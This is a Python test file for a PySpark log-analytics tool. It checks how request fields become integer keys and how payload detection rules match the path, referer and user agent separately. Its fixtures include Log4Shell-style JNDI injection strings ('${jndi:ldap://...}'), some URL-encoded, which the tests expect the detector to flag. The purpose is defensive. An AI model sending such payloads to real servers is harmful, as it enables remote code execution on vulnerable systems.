"""Keys and lookups: a day's texts become integer keys and back, and what a value means is worked out
once per value (analytics/facts.py, analytics/lookups.py). Expected values are worked out by hand."""

from __future__ import annotations

from typing import Any

from pyspark.sql import functions

from analytics import facts, lookups, rules
from analytics.detectors import load_detection
from config.settings import SecuritySettings


def _rows(frames: Any) -> Any:
    return frames.requests([
        {"client_ip": "10.0.0.1", "requested_at": frames.at(0), "path": "/a", "referer": "https://Shop.example/x",
         "vhost": "www.shop.example:443"},
        {"client_ip": "10.0.0.2", "requested_at": frames.at(1), "path": "/a", "referer": None, "user_agent": None},
        {"client_ip": "10.0.0.1", "requested_at": frames.at(2), "path": "/b", "referer": "https://news.example/",
         "vhost": "other.example"},
    ])


def test_encoded_keys_resolve_to_their_values_and_nulls_have_none(frames: Any) -> None:
    day = facts.encode_requests(_rows(frames))
    rows = day.rows.orderBy("line_number").collect()
    clients = {row.key: row.client_ip for row in day.clients.collect()}
    requests = {row.key: (row.method, row.path) for row in day.requests.collect()}
    assert [clients[row.client_key] for row in rows] == ["10.0.0.1", "10.0.0.2", "10.0.0.1"]
    assert rows[0].client_key == rows[2].client_key != rows[1].client_key
    assert [requests[row.request_key] for row in rows] == [("GET", "/a"), ("GET", "/a"), ("GET", "/b")]
    assert rows[1].agent_key is None and rows[1].referer_key is None and rows[1].vhost_key is None
    assert day.agents.count() == 1 and day.referers.count() == 2 and day.vhosts.count() == 2


def test_hosts_share_keys_across_referers_and_vhosts(frames: Any) -> None:
    day = facts.encode_requests(_rows(frames))
    referers = {row.referer: (row.referer_host, row.referer_host_key)
                for row in lookups.referer_lookup(day, load_detection(SecuritySettings())).collect()}
    vhosts = {row.vhost: (row.vhost_host, row.vhost_host_key) for row in lookups.vhost_lookup(day).collect()}
    shop_host, shop_key = referers["https://Shop.example/x"]
    # www. and the port go, the case folds: the vhost of the first request is the referer's host
    assert shop_host == "shop.example" and vhosts["www.shop.example:443"] == ("shop.example", shop_key)
    # a vhost no referer names gets a key of its own, below every referer's (-1 is the null referer)
    other_host, other_key = vhosts["other.example"]
    assert other_host == "other.example" and other_key < -1
    assert referers[None] == (None, None) and vhosts[None] == (None, None)


def test_everywhere_rules_match_each_part_alone(frames: Any, tmp_path: Any) -> None:
    """A payload rule on `everywhere` matches the path and query, the referer and the agent, each by
    itself (raw and decoded), never a text joined across two parts."""
    # a user pattern file is an `everywhere` rule; its regex would match across a newline between parts
    (tmp_path / "spanning.txt").write_text("re:alpha\\s+omega\n", encoding="utf-8")
    detection = load_detection(SecuritySettings(patterns_dir=tmp_path))
    active = rules.payload_rules(detection.patterns)
    exploit = next(index for index, rule in enumerate(active) if rule.category == "known_exploit")
    spanning = next(index for index, rule in enumerate(active) if rule.category == "spanning")
    day = facts.encode_requests(frames.requests([
        {"client_ip": "10.0.0.1", "requested_at": frames.at(0), "path": "/", "query": "x=%24%7Bjndi%3Aldap://e/a%7D"},
        {"client_ip": "10.0.0.2", "requested_at": frames.at(1), "path": "/",
         "referer": "http://e/${jndi:ldap://e/b}"},
        {"client_ip": "10.0.0.3", "requested_at": frames.at(2), "path": "/", "user_agent": "${jndi:ldap://e/c}"},
        # the spanning pattern's first word ends the path, its last starts the referer: no part holds it
        {"client_ip": "10.0.0.4", "requested_at": frames.at(3), "path": "/alpha", "referer": "omega/"},
        {"client_ip": "10.0.0.5", "requested_at": frames.at(4), "path": "/alpha%20omega"},
    ]))
    requests = lookups.request_lookup(day, detection)
    own = {row.path + ("?" + row.query if row.query else ""): row._own for row in requests.collect()
           if row.path is not None}
    referer = {row.referer: row._ref_m for row in lookups.referer_lookup(day, detection).collect()}
    agents = {row.user_agent: row._ua_m[exploit] for row in
              lookups.agent_lookup(day, frames.user_agents([]), detection).collect()}
    assert own["/?x=%24%7Bjndi%3Aldap://e/a%7D"][exploit] == "${jndi:"  # found in the decoded query
    assert referer["http://e/${jndi:ldap://e/b}"][exploit] == "${jndi:"
    assert agents["${jndi:ldap://e/c}"] == "${jndi:"
    assert own["/alpha%20omega"][spanning] == "alpha omega"  # within one part, decoded
    assert own["/alpha"][spanning] == "" and referer["omega/"][spanning] == ""


def test_a_day_staged_without_keys_is_encoded_on_read(frames: Any, tmp_path: Any) -> None:
    from datetime import date

    from config.layout import DayLayout

    layout = DayLayout(tmp_path, date(2026, 5, 1))
    _rows(frames).drop(*facts.KEYED_COLUMNS).write.parquet(str(layout.requests))
    day = facts.read_facts(frames.spark, layout)
    assert day.rows.count() == 3 and day.clients.count() == 2
    assert day.rows.where(functions.col("client_key").isNull()).count() == 0
